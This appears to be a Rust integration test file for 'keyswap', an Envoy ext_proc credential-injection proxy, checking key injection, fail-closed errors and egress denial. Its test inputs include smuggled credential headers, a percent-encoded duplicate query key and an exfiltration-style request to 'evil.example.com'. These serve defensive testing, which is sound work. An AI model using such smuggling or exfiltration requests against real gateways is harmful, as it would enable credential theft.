@@ -1,0 +1,294 @@
+//! The ext_proc service driven as Envoy drives it: a tonic client sending ProcessingRequest
+//! streams to a real gRPC server on loopback.
+
+mod common;
+
+use std::sync::Arc;
+
+use arc_swap::ArcSwap;
+use common::grpc::{self, immediate, mutation, set_value};
+use common::*;
+use keyswap::config::file::FileSource;
+use keyswap::config::GatewaySelector;
+use keyswap::extproc::server::{self, Bound};
+use keyswap::extproc::Shared;
+use keyswap::telemetry::Metrics;
+
+struct Server {
+    addr: std::net::SocketAddr,
+    shared: Arc<Shared>,
+    _dir: tempfile::TempDir,
+}
+
+async fn start() -> Server {
+    let dir = config_dir();
+    let snapshot = FileSource::new(dir.path(), vec![]).snapshot(&GatewaySelector::Only).expect("valid config");
+    let shared = Arc::new(Shared { store: Arc::new(ArcSwap::from_pointee(snapshot)), metrics: Arc::default() });
+    let bound = Bound::tcp("127.0.0.1:0".parse().unwrap()).await.unwrap();
+    let Bound::Tcp(l) = &bound else { unreachable!() };
+    let addr = l.local_addr().unwrap();
+    tokio::spawn(server::run(shared.clone(), vec![bound], std::future::pending()));
+    Server { addr, shared, _dir: dir }
+}
+
+fn req<'a>(host: &'a str, path: &'a str, extra: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> {
+    let mut v = vec![(":method", "POST"), (":scheme", "https"), (":authority", host), (":path", path)];
+    v.extend_from_slice(extra);
+    v
+}
+
+#[tokio::test]
+async fn header_target_without_prefix_writes_the_raw_key() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+    let r = grpc::request(&mut c, &req("api.anthropic.com", "/v1/messages", &[("x-api-key", PLACEHOLDER)])).await;
+    let m = mutation(&r);
+    assert_eq!(set_value(&m, "x-api-key").as_deref(), Some(ANTHROPIC_KEY));
+    assert!(m.remove_headers.is_empty(), "{m:?}");
+    assert_eq!(Metrics::get(&s.shared.metrics.injections), 1);
+    assert_eq!(Metrics::get(&s.shared.metrics.smuggle_attempts), 0);
+}
+
+#[tokio::test]
+async fn header_target_with_prefix_and_mixed_case_name() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+    // The policy says `headerName: Authorization`; keyswap writes the lowercase name.
+    let r = grpc::request(
+        &mut c,
+        &req("api.openai.com:443", "/v1/chat/completions", &[("Authorization", "Bearer keyswap-injected-by-proxy")]),
+    )
+    .await;
+    let m = mutation(&r);
+    assert_eq!(set_value(&m, "authorization").as_deref(), Some(format!("Bearer {OPENAI_KEY}").as_str()));
+    assert!(m.remove_headers.is_empty(), "{m:?}");
+}
+
+#[tokio::test]
+async fn openai_route_limited_to_its_endpoints_denies_others() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+    let r = grpc::request(&mut c, &req("api.openai.com", "/v2/other", &[])).await;
+    assert_eq!(immediate(&r).status.as_ref().unwrap().code, 403);
+}
+
+#[tokio::test]
+async fn query_target_replaces_the_parameter_and_keeps_the_others_in_order() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+    let path = "/v1beta/models/gemini-2.0-flash:streamGenerateContent?alt=sse&key=keyswap-injected-by-proxy&x=a%20b";
+    let r = grpc::request(&mut c, &req("generativelanguage.googleapis.com", path, &[])).await;
+    let new_path = set_value(&mutation(&r), ":path").expect(":path rewritten");
+    assert_eq!(
+        new_path,
+        "/v1beta/models/gemini-2.0-flash:streamGenerateContent?alt=sse&key=AIza%2BREAL%2F0003%3Ddo%20not%20leak&x=a%20b"
+    );
+    let decoded = url_params(new_path.split_once('?').unwrap().1);
+    assert_eq!(decoded, vec![("alt".into(), "sse".into()), ("key".into(), GEMINI_KEY.into()), ("x".into(), "a b".into())]);
+}
+
+#[tokio::test]
+async fn query_target_appends_when_absent_and_removes_every_smuggled_copy() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+    let r = grpc::request(&mut c, &req("generativelanguage.googleapis.com", "/v1beta/models", &[])).await;
+    let p = set_value(&mutation(&r), ":path").unwrap();
+    assert_eq!(url_params(p.split_once('?').unwrap().1), vec![("key".into(), GEMINI_KEY.into())]);
+
+    let smuggled = format!("/v1beta/models?key={STOLEN}&a=1&%6Bey={STOLEN}&KEY=x");
+    let r = grpc::request(
+        &mut c,
+        &req("generativelanguage.googleapis.com", &smuggled, &[("x-goog-api-key", STOLEN), ("X-Goog-Api-Key", STOLEN)]),
+    )
+    .await;
+    let m = mutation(&r);
+    let p = set_value(&m, ":path").unwrap();
+    assert_eq!(url_params(p.split_once('?').unwrap().1), vec![("key".into(), GEMINI_KEY.into()), ("a".into(), "1".into())]);
+    assert_eq!(m.remove_headers, vec!["x-goog-api-key".to_owned()], "header copies go too");
+    assert_eq!(Metrics::get(&s.shared.metrics.smuggle_attempts), 1, "one request, counted once");
+}
+
+#[tokio::test]
+async fn smuggled_credentials_are_stripped_in_any_case_and_counted() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+    let cases: &[&[(&str, &str)]] = &[
+        &[("X-Api-Key", STOLEN)],
+        &[("x-api-key", PLACEHOLDER), ("x-api-key", STOLEN)],
+        &[("x-api-key", PLACEHOLDER), ("authorization", "Bearer sk-stolen-by-agent-9999")],
+        &[("x-api-key", PLACEHOLDER), ("proxy-authorization", "Basic c3RvbGVu")],
+        &[("Anthropic-Api-Key", STOLEN), ("api-key", STOLEN), ("openai-api-key", STOLEN), ("x-amz-security-token", STOLEN)],
+    ];
+    for (i, extra) in cases.iter().enumerate() {
+        let r = grpc::request(&mut c, &req("api.anthropic.com", "/v1/messages", extra)).await;
+        let m = mutation(&r);
+        assert_eq!(set_value(&m, "x-api-key").as_deref(), Some(ANTHROPIC_KEY), "case {i}");
+        for (name, _) in extra.iter() {
+            let lower = name.to_ascii_lowercase();
+            if lower != "x-api-key" {
+                assert!(m.remove_headers.contains(&lower), "case {i}: {lower} not removed: {m:?}");
+            }
+        }
+        assert!(m.remove_headers.iter().all(|h| h.chars().all(|c| !c.is_ascii_uppercase())));
+        assert_eq!(Metrics::get(&s.shared.metrics.smuggle_attempts), i as u64 + 1, "case {i} counted");
+    }
+}
+
+#[tokio::test]
+async fn anthropic_sdk_bearer_placeholder_is_stripped_but_not_counted_as_smuggling() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+    let r = grpc::request(&mut c, &req("api.anthropic.com", "/v1/messages", &[("authorization", "Bearer keyswap-injected-by-proxy")]))
+        .await;
+    let m = mutation(&r);
+    assert_eq!(set_value(&m, "x-api-key").as_deref(), Some(ANTHROPIC_KEY));
+    assert_eq!(m.remove_headers, vec!["authorization".to_owned()]);
+    assert_eq!(Metrics::get(&s.shared.metrics.smuggle_attempts), 0);
+}
+
+#[tokio::test]
+async fn missing_secret_fails_closed_with_503_naming_route_and_policy() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+    let r = grpc::request(&mut c, &req("missing-secret.test", "/v1/x", &[("x-api-key", PLACEHOLDER)])).await;
+    let i = immediate(&r);
+    assert_eq!(i.status.as_ref().unwrap().code, 503);
+    let body: serde_json::Value = serde_json::from_slice(&i.body).unwrap();
+    assert_eq!(body["error"]["type"], "credential_unavailable");
+    assert_eq!(body["error"]["route"], "default/no-secret");
+    assert_eq!(body["error"]["policy"], "default/no-secret-key");
+    assert_eq!(body["error"]["reason"], "SecretNotFound");
+    assert_eq!(Metrics::get(&s.shared.metrics.denied_credential_unavailable), 1);
+}
+
+#[tokio::test]
+async fn missing_key_in_secret_fails_closed_with_503() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+    let r = grpc::request(&mut c, &req("missing-key.test", "/", &[])).await;
+    let i = immediate(&r);
+    assert_eq!(i.status.as_ref().unwrap().code, 503);
+    let body: serde_json::Value = serde_json::from_slice(&i.body).unwrap();
+    assert_eq!(body["error"]["reason"], "KeyNotFound");
+    assert_eq!(body["error"]["policy"], "default/no-key-key");
+    assert!(!String::from_utf8_lossy(&i.body).contains(ANTHROPIC_KEY));
+}
+
+#[tokio::test]
+async fn deny_all_gateway_answers_403_to_unmatched_and_passes_allow_listed_hosts() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+    let r = grpc::request(&mut c, &req("evil.example.com", "/exfil?key=x", &[("x-api-key", PLACEHOLDER)])).await;
+    let i = immediate(&r);
+    assert_eq!(i.status.as_ref().unwrap().code, 403);
+    let body: serde_json::Value = serde_json::from_slice(&i.body).unwrap();
+    assert_eq!(body["error"]["type"], "egress_denied");
+    assert_eq!(body["error"]["gateway"], "default/egress");
+
+    let r = grpc::request(&mut c, &req("allowed.example.com", "/", &[("x-api-key", "agent-own")])).await;
+    assert_eq!(mutation(&r), Default::default(), "allow-listed traffic passes untouched");
+    assert_eq!(Metrics::get(&s.shared.metrics.denied_no_route), 1);
+}
+
+#[tokio::test]
+async fn later_phases_get_matching_continue_answers() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+    let answers = grpc::exchange(
+        &mut c,
+        vec![
+            grpc::headers(&req("api.anthropic.com", "/v1/messages", &[])),
+            grpc::body(b"{}"),
+            grpc::response_headers(&[(":status", "200")]),
+        ],
+    )
+    .await;
+    use envoy_types::pb::envoy::service::ext_proc::v3::processing_response::Response;
+    let kinds: Vec<_> = answers
+        .into_iter()
+        .map(|a| match a.unwrap().response.unwrap() {
+            Response::RequestHeaders(_) => "request_headers",
+            Response::RequestBody(_) => "request_body",
+            Response::ResponseHeaders(_) => "response_headers",
+            _ => "other",
+        })
+        .collect();
+    assert_eq!(kinds, ["request_headers", "request_body", "response_headers"]);
+}
+
+#[tokio::test]
+async fn malformed_messages_end_the_stream_with_an_error_and_the_server_keeps_serving() {
+    let s = start().await;
+    let mut c = grpc::connect(s.addr).await;
+
+    let no_oneof = grpc::exchange(&mut c, vec![Default::default()]).await;
+    let status = no_oneof.last().unwrap().as_ref().unwrap_err();
+    assert_eq!(status.code(), tonic::Code::InvalidArgument, "{status:?}");
+
+    let body_first = grpc::exchange(&mut c, vec![grpc::body(b"{}"), grpc::headers(&[])]).await;
+    assert_eq!(body_first.len(), 1, "nothing after the error: {body_first:?}");
+    assert_eq!(body_first[0].as_ref().unwrap_err().code(), tonic::Code::FailedPrecondition);
+
+    let twice = grpc::exchange(&mut c, vec![grpc::headers(&[]), grpc::headers(&[])]).await;
+    assert!(twice[0].is_ok() && twice[1].is_err(), "{twice:?}");
+
+    // Garbage bytes where a protobuf should be: a raw HTTP/2 gRPC call with an undecodable frame.
+    let mut raw = tonic::client::Grpc::new(tonic::transport::Channel::from_shared(format!("http://{}", s.addr)).unwrap().connect().await.unwrap());
+    raw.ready().await.unwrap();
+    let garbage = tokio_stream::iter(vec![bytes::Bytes::from_static(&[0xff, 0xff, 0xff, 0x07, 0x00, 0x01])]);
+    let path = http::uri::PathAndQuery::from_static("/envoy.service.ext_proc.v3.ExternalProcessor/Process");
+    let res = raw.streaming(tonic::Request::new(garbage), path, RawCodec).await;
+    match res {
+        Ok(resp) => {
+            let mut st = resp.into_inner();
+            use tokio_stream::StreamExt;
+            let first = st.next().await;
+            assert!(matches!(first, None | Some(Err(_))), "garbage must not be answered: {first:?}");
+        }
+        Err(status) => assert_ne!(status.code(), tonic::Code::Ok),
+    }
+
+    // The server is still there, on the same connection and on a new one.
+    let r = grpc::request(&mut c, &req("api.anthropic.com", "/v1/messages", &[])).await;
+    assert_eq!(set_value(&mutation(&r), "x-api-key").as_deref(), Some(ANTHROPIC_KEY));
+    let mut c2 = grpc::connect(s.addr).await;
+    let r = grpc::request(&mut c2, &req("api.anthropic.com", "/v1/messages", &[])).await;
+    assert_eq!(set_value(&mutation(&r), "x-api-key").as_deref(), Some(ANTHROPIC_KEY));
+    assert!(Metrics::get(&s.shared.metrics.protocol_errors) >= 3);
+}
+
+/// Sends raw bytes as the gRPC message payload, receives raw bytes.
+#[derive(Clone, Copy, Default)]
+struct RawCodec;
+
+impl tonic::codec::Codec for RawCodec {
+    type Encode = bytes::Bytes;
+    type Decode = bytes::Bytes;
+    type Encoder = RawCodec;
+    type Decoder = RawCodec;
+    fn encoder(&mut self) -> Self::Encoder {
+        RawCodec
+    }
+    fn decoder(&mut self) -> Self::Decoder {
+        RawCodec
+    }
+}
+
+impl tonic::codec::Encoder for RawCodec {
+    type Item = bytes::Bytes;
+    type Error = tonic::Status;
+    fn encode(&mut self, item: Self::Item, dst: &mut tonic::codec::EncodeBuf<'_>) -> Result<(), Self::Error> {
+        use bytes::BufMut;
+        dst.put_slice(&item);
+        Ok(())
+    }
+}
+
+impl tonic::codec::Decoder for RawCodec {
+    type Item = bytes::Bytes;
+    type Error = tonic::Status;
+    fn decode(&mut self, src: &mut tonic::codec::DecodeBuf<'_>) -> Result<Option<Self::Item>, Self::Error> {
+        use bytes::Buf;
+        Ok(Some(src.copy_to_bytes(src.remaining())))
+    }
+}
